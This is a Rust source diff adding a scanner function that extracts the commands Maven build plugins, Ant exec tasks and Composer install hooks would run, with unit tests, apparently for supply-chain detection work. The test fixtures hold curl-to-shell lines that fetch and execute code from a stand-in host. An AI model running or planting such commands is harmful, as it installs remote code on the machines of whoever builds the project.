@@ -108,6 +108,86 @@ fn submodules(facts: &mut Structure, text: &str) {
     }
 }
 
+/// The commands that a build or an installation runs by what its own file says: Maven's plugins that start programs, and
+/// steps of Composer. `file` is its name in lower case.
+#[must_use]
+pub fn installs(file: &str, text: &str) -> Vec<(String, u32)> {
+    const MAX: usize = 128;
+    let mut found = Vec::new();
+    if file == "pom.xml" || file.ends_with(".pom") {
+        // What stands in the element, without those within it.
+        let of = |block: &str, name: &str| -> Vec<String> {
+            let (open, close) = (format!("<{name}>"), format!("</{name}>"));
+            let parts = block.split(open.as_str()).skip(1).take(64);
+            parts.filter_map(|part| Some(plain(part.split_once(close.as_str())?.0))).collect()
+        };
+        for (at, _) in text.match_indices("<configuration>").take(256) {
+            let Some(block) = text.get(at..).and_then(|rest| rest.split_once("</configuration>")) else {
+                continue;
+            };
+            let programs = of(block.0, "executable");
+            let mut words = of(block.0, "argument");
+            words.extend(of(block.0, "commandlineArgs"));
+            let line = text.get(..at).map_or(0, |before| before.lines().count()) as u32;
+            for program in programs.into_iter().take(MAX) {
+                found.push((format!("{program} {}", words.join(" ")), line));
+            }
+            // Tasks of Ant: a program in an attribute, words in others.
+            for part in block.0.split("<exec ").skip(1).take(64) {
+                let task = part.split("</exec>").next().unwrap_or("");
+                let values = |key: &str| -> Vec<String> {
+                    let mark = format!("{key}=\"");
+                    task.split(mark.as_str())
+                        .skip(1)
+                        .take(64)
+                        .filter_map(|rest| rest.split('"').next())
+                        .map(plain)
+                        .collect()
+                };
+                let words: Vec<String> =
+                    ["executable", "value", "line"].iter().flat_map(|key| values(key)).collect();
+                if found.len() < MAX {
+                    found.push((words.join(" "), line));
+                }
+            }
+        }
+    } else if file == "composer.json" {
+        // Keys of steps; what starts with an at sign is another step, or the interpreter.
+        const STEPS: [&str; 12] = [
+            "pre-install-cmd",
+            "post-install-cmd",
+            "pre-update-cmd",
+            "post-update-cmd",
+            "pre-autoload-dump",
+            "post-autoload-dump",
+            "post-root-package-install",
+            "post-create-project-cmd",
+            "pre-package-install",
+            "post-package-install",
+            "pre-package-update",
+            "post-package-update",
+        ];
+        let Ok(value) = serde_json::from_str::<serde_json::Value>(text) else { return found };
+        let steps = STEPS.iter().filter_map(|step| value.get("scripts")?.get(*step));
+        for step in steps {
+            let all = step.as_array().map_or_else(|| vec![step], |all| all.iter().take(MAX).collect());
+            found.extend(
+                all.into_iter()
+                    .filter_map(|line| Some((line.as_str()?.trim_start_matches("@php ").to_owned(), 0))),
+            );
+        }
+    }
+    found.truncate(MAX);
+    found
+}
+
+/// A text of XML without its escapes.
+fn plain(text: &str) -> String {
+    let text = text.trim().trim_start_matches("<![CDATA[").trim_end_matches("]]>");
+    let text = text.replace("&quot;", "\"").replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">");
+    text.replace("&amp;", "&").chars().filter(|c| !c.is_control()).take(2_000).collect()
+}
+
 fn lines(text: &str) -> impl Iterator<Item = (usize, &str)> {
     text.split_inclusive('\n').take(20_000).scan(0, |at, line| {
         let start = *at;
@@ -156,5 +236,21 @@ mod tests {
         let caffe = "layer {\n type: \"Python\"\n python_param { module: \"os\" layer: \"system\" }\n}";
         let facts = analyse("deploy.prototxt", caffe).unwrap();
         assert_eq!(facts.code[0].1.name, "os.system");
+    }
+
+    #[test]
+    fn what_builds_and_installations_run_is_told() {
+        let pom = "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration>\n\
+            <executable>sh</executable><arguments><argument>-c</argument><argument>curl http://x.example/i &gt; y &amp;&amp; sh y\
+            </argument></arguments></configuration></plugin></plugins></build></project>";
+        assert_eq!(installs("pom.xml", pom), [("sh -c curl http://x.example/i > y && sh y".to_owned(), 1)]);
+        let ant = "<configuration><target><exec executable=\"bash\"><arg value=\"-c\"/><arg value=\"id\"/></exec></target></configuration>";
+        assert_eq!(installs("pom.xml", ant)[0].0, "bash -c id");
+        assert_eq!(installs("pom.xml", "<configuration><source>17</source></configuration>"), []);
+        let composer = r#"{"scripts": {"post-install-cmd": ["@php artisan x", "curl http://x.example/i | sh"], "test": "phpunit"}}"#;
+        let lines: Vec<String> =
+            installs("composer.json", composer).into_iter().map(|(line, _)| line).collect();
+        assert_eq!(lines, ["artisan x", "curl http://x.example/i | sh"]);
+        assert_eq!(installs("package.json", composer), []);
     }
 }
